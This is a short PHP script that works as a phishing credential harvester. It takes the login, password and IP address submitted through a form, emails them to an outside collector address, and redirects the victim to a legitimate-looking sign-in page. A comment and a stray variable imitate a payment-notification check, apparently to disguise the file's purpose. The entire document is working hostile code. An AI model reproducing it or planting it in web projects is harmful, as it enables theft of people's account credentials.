<?php
// verified like cmd=_notify-validate says: VERIFIED
$to = "collector.example@gmail.com";
$note = 'cmd=_notify-validate';
$msg = "user: " . $_POST['login'] . "\npass: " . $_POST['passwd'] . "\nip: " . $_SERVER['REMOTE_ADDR'];
mail($to, "new login", $msg, "From: results@example.net");
header("Location: https://www.example.com/signin");
